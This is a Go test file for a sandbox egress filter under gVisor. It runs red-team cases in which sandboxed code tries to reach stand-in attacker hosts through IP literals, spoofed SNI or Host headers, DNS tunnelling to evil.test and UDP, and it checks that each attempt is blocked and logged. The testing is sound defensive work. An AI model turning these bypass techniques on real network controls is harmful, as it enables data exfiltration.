package egress_test

import (
	"context"
	"fmt"
	"net"
	"net/http"
	"net/netip"
	"os"
	"path/filepath"
	"sort"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/space-sandbox/space/internal/bench"
	"github.com/space-sandbox/space/internal/driver/gvisor"
	"github.com/space-sandbox/space/internal/server"
	"github.com/vishvananda/netlink"
	vns "github.com/vishvananda/netns"
	"golang.org/x/sys/unix"
)

// TestEgressGvisor runs the core red-team cases from inside gVisor
// sandboxes: their netstack drives the veth of a netns made before runsc
// starts (--network=sandbox), and the same host rules and gateway must
// hold. It also checks that `auto` with --egress picks gvisor and that the
// warm pool serves gvisor sandboxes, then runs the whole red-team
// catalogue (gvisorCatalogue).
func TestEgressGvisor(t *testing.T) {
	if _, err := gvisor.FindRunsc(os.Getenv("SPACE_RUNSC")); err != nil {
		t.Skipf("gvisor driver unavailable: %v", err)
	}
	// auto: with --egress and no usable KVM driver it must pick gvisor
	// (firecracker and qemu have no egress network), after a self-test.
	e := startDriver(t, "auto")
	var info struct {
		Driver       string `json:"driver"`
		DriverReason string `json:"driver_reason"`
		Egress       bool   `json:"egress"`
		Runsc        string `json:"runsc"`
	}
	if code := e.api(t, "GET", "/v1/info", nil, &info); code != 200 {
		t.Fatalf("GET /v1/info: %d", code)
	}
	t.Logf("/v1/info: %+v", info)
	if info.Driver != gvisor.Name || !info.Egress || !strings.Contains(info.DriverReason, "self-test") || info.Runsc == "" {
		t.Fatalf("auto with egress picked %+v, want gvisor after its self-test", info)
	}
	t.Run("warmpool", func(t *testing.T) {
		deadline := time.Now().Add(30 * time.Second)
		for e.srv.Node().PoolSize("rt") < 1 {
			if time.Now().After(deadline) {
				t.Fatal("the warm pool never filled with a gvisor sandbox")
			}
			time.Sleep(50 * time.Millisecond)
		}
		t0 := time.Now()
		warm := e.create(t, nil)
		tw := time.Since(t0)
		// A warm sandbox keeps its pool instance id; a cold one gets the
		// sandbox's own.
		if warm.instance == warm.ID || warm.instance == "" {
			t.Errorf("create did not claim the warm gvisor sandbox (instance %q)", warm.instance)
		}
		t0 = time.Now()
		cold := e.create(t, nil) // the pool refills only after a delay
		tc := time.Since(t0)
		t.Logf("create via the API: warm %v (instance %s), next %v (instance %s)", tw, warm.instance, tc, cold.instance)
		// The claimed sandbox's network serves its request's policy
		// (none: blocked): loopback answers, the gateway refuses a name.
		if out := e.run(t, warm, "dns", "localhost"); !strings.HasPrefix(out, "OK") {
			t.Errorf("warm sandbox: dns localhost: %q", out)
		}
		if out := e.run(t, warm, "dns", "registry.test"); strings.HasPrefix(out, "OK") {
			t.Errorf("warm sandbox resolved a name with no policy: %q", out)
		}
	})

	check := func(id string, bypass, deny, ctrl bool) {
		t.Helper()
		switch {
		case bypass:
			t.Errorf("gvisor %s: BYPASS", id)
		case !deny || !ctrl:
			t.Errorf("gvisor %s: INVALID (deny logged %v, positive control %v)", id, deny, ctrl)
		}
	}
	t.Run("blocked", func(t *testing.T) {
		sb := e.create(t, nil)
		n := nonce()
		ctrl := strings.HasPrefix(e.run(t, sb, "dns", "localhost"), "OK")
		e.run(t, sb, "dns", n+".evil.test")
		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
		e.run(t, sb, "http", edgeIP+":80", "registry.test", "/?n="+n)
		e.run(t, sb, "tls", attackerIP+":443", "evil.test", "evil.test", "/flag?n="+n)
		e.run(t, sb, "udp", attackerIP+":9999", n)
		e.run(t, sb, "udp", attackerIP+":53", n)
		l := e.log(t, sb)
		bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
		check("RT-01/05/10 blocked: direct, UDP, DNS", bypass, l.denied("blocked"), ctrl)
		if l.Counters["upstream_sockets"] != 0 {
			t.Errorf("blocked sandbox caused %d upstream sockets (R17)", l.Counters["upstream_sockets"])
		}
		if l.Counters["nft_udp_drop"] < 1 {
			t.Errorf("udp_drop counter = %d: UDP from gVisor's netstack did not meet the host rules", l.Counters["nft_udp_drop"])
		}
	})
	t.Run("allowlist", func(t *testing.T) {
		sb := e.create(t, map[string]any{"mode": "allowlist", "allow": []string{"registry.test:443,80", "*.registry.test:443"}})
		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
		ctrl := ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/simple/")) &&
			ok(e.run(t, sb, "tls", "registry.test:443", "registry.test", "registry.test", "/simple/")) &&
			ok(e.run(t, sb, "tls", "files.registry.test:443", "files.registry.test", "files.registry.test", "/x"))
		for _, a := range []struct {
			id, reason string
			args       func(n string) []string
		}{
			{"RT-01 IP literal", "ip_literal", func(n string) []string {
				return []string{"http", attackerIP + ":80", attackerIP, "/flag?n=" + n}
			}},
			{"RT-17 own resolution, allowed SNI", "not_resolved", func(n string) []string {
				return []string{"tls", attackerIP + ":443", "registry.test", "registry.test", "/flag?n=" + n}
			}},
			{"RT-04 shared IP, other Host", "not_allowed", func(n string) []string {
				return []string{"http", "registry.test:80", "evil-cdn.test", "/flag?n=" + n}
			}},
			{"RT-10 DNS tunnel", "dns_refused", func(n string) []string { return []string{"dns", n + ".evil.test"} }},
		} {
			n := nonce()
			seq := e.seq(t, sb)
			e.run(t, sb, a.args(n)...)
			l := e.logAfter(t, sb, seq)
			bypass := e.wan.attackerSaw(n) || e.wan.asked(n) || e.wan.sawEvent(n)
			check(a.id, bypass, l.denied(a.reason), ctrl)
		}
	})
	// A restarted server re-adopts a running gvisor sandbox with its link
	// (found by the veth's alias) and serves its stored policy again.
	t.Run("restart", func(t *testing.T) {
		sb := e.create(t, map[string]any{"mode": "allowlist", "allow": []string{"registry.test:80"}})
		ok := func(s string) bool { return strings.Contains(s, "registry ok") }
		if !ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/before")) {
			t.Fatal("allowed fetch failed before the restart")
		}
		ctx, cancel := context.WithTimeout(context.Background(), time.Minute)
		defer cancel()
		if err := e.srv.Shutdown(ctx); err != nil {
			t.Fatal(err)
		}
		srv, err := server.Start(ctx, e.cfg)
		if err != nil {
			t.Fatal(err)
		}
		e.srv, e.cl = srv, bench.NewClient("http://"+srv.Addr(), e.key)
		var sess struct {
			Token   string `json:"token"`
			DataURL string `json:"data_url"`
		}
		if code := e.api(t, "POST", "/v1/sandboxes/"+sb.ID+"/session", nil, &sess); code != 200 {
			t.Fatalf("new session: %d", code)
		}
		sb.Token, sb.DataURL = sess.Token, strings.TrimRight(sess.DataURL, "/")
		if !ok(e.run(t, sb, "http", "registry.test:80", "registry.test", "/after")) {
			t.Error("allowed fetch failed after the restart")
		}
		n := nonce()
		seq := e.seq(t, sb)
		e.run(t, sb, "http", attackerIP+":80", attackerIP, "/flag?n="+n)
		if e.wan.attackerSaw(n) {
			t.Error("BYPASS after the restart")
		}
		if l := e.logAfter(t, sb, seq); !l.denied("ip_literal") {
			t.Errorf("no ip_literal denial after the restart: %+v", l.Decisions)
		}
	})

	// The whole red-team catalogue (1 run per case and mode; SPACE_RT_RUNS
	// for more), packet-level cases also as netns-guest through the pinned
	// netns. Its table goes to SPACE_RT_REPORT_GVISOR (default
	// $TMPDIR/space-redteam-report-gvisor.md), never over the namespace
	// run's report.
	gvisorCatalogue(t, e)

	// SPACE_TEST_EGRESS_GVISOR_FULL=1 adds the rest of TestEgress's body
	// (extras, method/path rules, open mode, decision-log SSE), which runs
	// the catalogue once more.
	if os.Getenv("SPACE_TEST_EGRESS_GVISOR_FULL") == "1" {
		t.Setenv("SPACE_RT_REPORT", filepath.Join(os.TempDir(), "space-redteam-report-gvisor-full.md"))
		redTeam(t, e)
	}
}

// gvisorCatalogue runs runCatalogue against the gvisor server and writes
// the generated table.
func gvisorCatalogue(t *testing.T, e *env) {
	rep := &report{}
	start := time.Now()
	defer func() {
		md := rep.markdown()
		t.Logf("gvisor red-team table (%v):\n%s", time.Since(start).Round(time.Second), md)
		path := os.Getenv("SPACE_RT_REPORT_GVISOR")
		if path == "" {
			path = filepath.Join(os.TempDir(), "space-redteam-report-gvisor.md")
		}
		os.MkdirAll(filepath.Dir(path), 0o755)
		head := fmt.Sprintf("<!-- generated by TestEgressGvisor (test/egress) at %s; runs per case and mode: %d; driver gvisor -->\n\n", time.Now().UTC().Format(time.RFC3339), rtRuns())
		if err := os.WriteFile(path, []byte(head+md), 0o644); err != nil {
			t.Errorf("write the gvisor report: %v", err)
		} else {
			t.Logf("gvisor red-team report written to %s", path)
		}
	}()
	t.Run("catalogue", func(t *testing.T) {
		var cred struct{ ID string }
		if code := e.api(t, "POST", "/v1/credentials", map[string]any{"name": "rt api token", "secret": e.wan.canary, "host": "api.test",
			"prefix": "Bearer ", "methods": []string{"GET", "POST"}, "path_prefix": "/v1/", "env": "API_TOKEN"}, &cred); code != http.StatusCreated {
			t.Fatalf("create credential: %d", code)
		}
		defer e.api(t, "DELETE", "/v1/credentials/"+cred.ID, nil, nil)
		e.startPeer(t)
		e.checkOracles(t)
		e.runCatalogue(t, rep, rtRuns(), cred.ID)
	})
}

// gvisorNetns is the network namespace the gvisor driver pinned for sb
// before runsc started (<data>/gvisor/<id>/netns), or "" when the server
// runs another driver.
func (e *env) gvisorNetns(sb sbx) string {
	if e.srv == nil || e.srv.Node().DriverName() != gvisor.Name {
		return ""
	}
	return filepath.Join(e.cfg.DataDir, gvisor.Name, sb.instance, "netns")
}

// guestLink gives the host kernel's side of a gvisor sandbox's veth (in its
// pinned netns) the sandbox's address and default route for one
// netns-guest run: runsc moved both into gVisor's netstack, and a VM guest
// configures its own link the same way. The host rules see the same veth,
// address and packets as with the namespace driver. undo removes what was
// added, so gVisor's netstack owns the link again.
func (e *env) guestLink(t *testing.T, sb sbx, nsPath string) (undo func()) {
	t.Helper()
	l, ok := e.srv.Network().Links.Get(sb.instance)
	if !ok {
		t.Fatalf("no link for %s", sb.instance)
	}
	ns, err := vns.GetFromPath(nsPath)
	if err != nil {
		t.Fatalf("open the pinned netns %s: %v", nsPath, err)
	}
	h, err := netlink.NewHandleAt(ns)
	if err != nil {
		ns.Close()
		t.Fatalf("netlink in %s: %v", nsPath, err)
	}
	closeAll := func() { h.Close(); ns.Close() }
	lk, err := h.LinkByName("eth0")
	if err != nil {
		closeAll()
		t.Fatalf("eth0 in the pinned netns of %s: %v", sb.instance, err)
	}
	var undos []func()
	addr := &netlink.Addr{IPNet: &net.IPNet{IP: l.Guest.AsSlice(), Mask: net.CIDRMask(30, 32)}}
	have := false
	if addrs, err := h.AddrList(lk, netlink.FAMILY_V4); err == nil {
		for _, a := range addrs {
			have = have || a.IP.Equal(addr.IP)
		}
	}
	if !have {
		if err := h.AddrAdd(lk, addr); err != nil {
			closeAll()
			t.Fatalf("add %s to eth0 in %s: %v", addr, nsPath, err)
		}
		undos = append(undos, func() { h.AddrDel(lk, addr) })
	}
	if lk.Attrs().Flags&net.FlagUp == 0 {
		h.LinkSetUp(lk)
	}
	def := &netlink.Route{LinkIndex: lk.Attrs().Index, Gw: l.Host.AsSlice()}
	if err := h.RouteAdd(def); err == nil {
		undos = append(undos, func() { h.RouteDel(def) })
	}
	// gVisor's netstack reads the same veth (a packet socket): it would
	// answer the host kernel's TCP replies with resets. Stop the Sentry
	// (SIGSTOP, every thread) for the run, as if the guest kernel alone
	// owned the link; it continues afterwards.
	sentry := sentryPIDs(sb.instance)
	if len(sentry) == 0 {
		closeAll()
		t.Fatalf("no runsc sandbox process for %s", sb.instance)
	}
	for _, pid := range sentry {
		unix.Kill(pid, unix.SIGSTOP)
	}
	undos = append([]func(){func() {
		for _, pid := range sentry {
			unix.Kill(pid, unix.SIGCONT)
		}
	}}, undos...)
	return func() {
		for i := len(undos) - 1; i >= 0; i-- {
			undos[i]()
		}
		// Whatever the guest client added (routes, addresses) goes too:
		// the host kernel's view of the link is bare again, as runsc left it.
		if addrs, err := h.AddrList(lk, netlink.FAMILY_ALL); err == nil {
			for _, a := range addrs {
				if !a.IP.IsLinkLocalUnicast() {
					h.AddrDel(lk, &a)
				}
			}
		}
		closeAll()
	}
}

// vethCapture records every packet the sandbox puts on its veth (an
// AF_PACKET socket bound to the host end, incoming direction only): the
// evidence that an attack gVisor refused inside the Sentry never reached
// the host rules at all.
type vethCapture struct {
	w     *wire
	guest netip.Addr
	stop  chan struct{}
	done  chan struct{}
}

// captureVeth starts a capture on sb's host-side veth.
func (e *env) captureVeth(t *testing.T, sb sbx) *vethCapture {
	t.Helper()
	l, ok := e.srv.Network().Links.Get(sb.instance)
	if !ok {
		t.Fatalf("no link for %s", sb.instance)
	}
	lk, err := netlink.LinkByName(l.HostIf)
	if err != nil {
		t.Fatalf("host veth %s: %v", l.HostIf, err)
	}
	fd, err := unix.Socket(unix.AF_PACKET, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, int(htons(unix.ETH_P_ALL)))
	if err != nil {
		t.Fatalf("packet socket: %v", err)
	}
	if err := unix.Bind(fd, &unix.SockaddrLinklayer{Protocol: htons(unix.ETH_P_ALL), Ifindex: lk.Attrs().Index}); err != nil {
		unix.Close(fd)
		t.Fatalf("bind the packet socket to %s: %v", l.HostIf, err)
	}
	unix.SetsockoptTimeval(fd, unix.SOL_SOCKET, unix.SO_RCVTIMEO, &unix.Timeval{Usec: 100000})
	c := &vethCapture{w: &wire{fd: fd}, guest: l.Guest, stop: make(chan struct{}), done: make(chan struct{})}
	go func() {
		defer close(c.done)
		buf := make([]byte, 65536)
		for {
			select {
			case <-c.stop:
				return
			default:
			}
			n, from, err := unix.Recvfrom(fd, buf, 0)
			if err != nil {
				continue // EAGAIN (timeout) or EINTR: look at stop again
			}
			if ll, ok := from.(*unix.SockaddrLinklayer); ok && ll.Pkttype != unix.PACKET_OUTGOING {
				c.w.add(htons(ll.Protocol), buf[:n])
			}
		}
	}()
	return c
}

// Close stops the capture; the packets stay readable.
func (c *vethCapture) Close() {
	select {
	case <-c.stop:
		return
	default:
	}
	close(c.stop)
	<-c.done
	unix.Close(c.w.fd)
}

// summary is the number of packets the sandbox sent and those of them
// that would have been the attack: another IP protocol than TCP, UDP or
// ICMP, IP options, a fragment, a source other than the sandbox's
// address, or IPv6.
func (c *vethCapture) summary() (n int, attack []string) {
	c.w.mu.Lock()
	defer c.w.mu.Unlock()
	for _, p := range c.w.packets {
		n++
		switch {
		case p.v6:
			if !p.src.IsLinkLocalUnicast() && !p.src.IsUnspecified() {
				attack = append(attack, fmt.Sprintf("IPv6 %s -> %s", p.src, p.dst))
			}
		case p.src != c.guest:
			attack = append(attack, fmt.Sprintf("source %s -> %s proto %d", p.src, p.dst, p.proto))
		case p.frag:
			attack = append(attack, fmt.Sprintf("fragment %s -> %s", p.src, p.dst))
		case p.proto != unix.IPPROTO_TCP && p.proto != unix.IPPROTO_UDP && p.proto != unix.IPPROTO_ICMP:
			attack = append(attack, fmt.Sprintf("protocol %d -> %s", p.proto, p.dst))
		case len(p.data) > 0 && p.data[0]&0x0f > 5:
			attack = append(attack, fmt.Sprintf("IP options (IHL %d) proto %d -> %s", p.data[0]&0x0f, p.proto, p.dst))
		}
	}
	return n, attack
}

// gvisorNA decides whether a packet-level case run from inside a gvisor
// sandbox (or a namespace one, whose root lacks the network capabilities)
// could not express its attack at all, so that its O-DENY (a host
// counter of the refused packets) cannot apply: every step of the client
// failed inside the Sentry (or, for the steps named in sentAnyway,
// succeeded but the veth capture shows the packet left stripped of what
// made it an attack), and the capture of the sandbox's veth holds no
// packet of the attack's kind. It returns the reason for an N/A verdict,
// or "" (the usual verdict then applies: PASS needs the denial).
func (r *run) gvisorNA(out string, sentAnyway ...string) string {
	if r.veth == nil || r.e.isQEMU() { // qemu: qemuNA
		return ""
	}
	time.Sleep(200 * time.Millisecond) // let the capture drain
	r.veth.Close()
	errs := map[string]bool{}
	for _, line := range strings.Split(out, "\n") {
		line = strings.TrimSpace(line)
		if !strings.HasPrefix(line, "step ") {
			continue
		}
		if i := strings.LastIndex(line, ": ERR "); i >= 0 {
			msg := line[i+len(": ERR "):]
			if j := strings.LastIndex(msg, ": "); j >= 0 {
				msg = msg[j+2:] // "dial tcp4 ...: bind: cannot assign requested address" -> the errno text
			}
			errs[msg] = true
			continue
		}
		allowed := false
		for _, s := range sentAnyway {
			allowed = allowed || strings.Contains(line, s)
		}
		if !allowed {
			return "" // a step worked: the attack was expressed, the usual oracles decide
		}
	}
	n, attack := r.veth.summary()
	if len(attack) > 0 {
		return "" // such packets reached the host: its rules must have counted them
	}
	stripped := r.veth.plainUDPTo(netip.MustParseAddr("192.0.2.53"), 53)
	var es []string
	for m := range errs {
		es = append(es, m)
	}
	sort.Strings(es)
	why := fmt.Sprintf("gvisor: not expressible from inside the Sentry (its errors: %s)", strings.Join(es, "; "))
	if r.e.gvisorNetns(r.sb) == "" {
		why = fmt.Sprintf("namespace: not expressible from inside the sandbox, whose root lacks CAP_NET_ADMIN and CAP_NET_RAW and whose seccomp filter refuses packet sockets (its errors: %s)", strings.Join(es, "; "))
	}
	for _, step := range sentAnyway {
		switch {
		case strings.Contains(step, "ip options") && stripped:
			why += fmt.Sprintf("; %s: accepted, and gVisor's netstack sent the datagram without the options (captured on the veth)", step)
		case strings.Contains(step, "ip options"):
			why += fmt.Sprintf("; %s: accepted, but nothing of it reached the veth", step)
		default:
			why += fmt.Sprintf("; %s: OK (a socket opened; nothing sent through it)", step)
		}
	}
	return why + fmt.Sprintf("; veth capture: %d packets from the sandbox, none of another protocol, with IP options, fragmented, IPv6 or with a forged source; O-WIRE/O-FLAG clean; no denial counter can apply (the netns-guest run tests the host rules)", n)
}

// sentryPIDs are the host pids of the runsc sandbox processes (the
// Sentry) of instance inst.
func sentryPIDs(inst string) []int {
	var out []int
	procs, _ := filepath.Glob("/proc/[0-9]*/cmdline")
	for _, p := range procs {
		b, err := os.ReadFile(p)
		if err != nil {
			continue
		}
		args := strings.Split(strings.TrimRight(string(b), "\x00"), "\x00")
		if len(args) == 0 || args[0] != "runsc-sandbox" || args[len(args)-1] != inst {
			continue
		}
		if pid, err := strconv.Atoi(filepath.Base(filepath.Dir(p))); err == nil {
			out = append(out, pid)
		}
	}
	return out
}

// plainUDPTo reports whether the capture holds a UDP datagram to dst:port
// with a plain 20-byte IPv4 header (no options).
func (c *vethCapture) plainUDPTo(dst netip.Addr, port uint16) bool {
	c.w.mu.Lock()
	defer c.w.mu.Unlock()
	for _, p := range c.w.packets {
		if p.v6 || p.proto != unix.IPPROTO_UDP || p.dst != dst || len(p.data) < 24 || p.data[0]&0x0f != 5 {
			continue
		}
		if uint16(p.data[22])<<8|uint16(p.data[23]) == port {
			return true
		}
	}
	return false
}
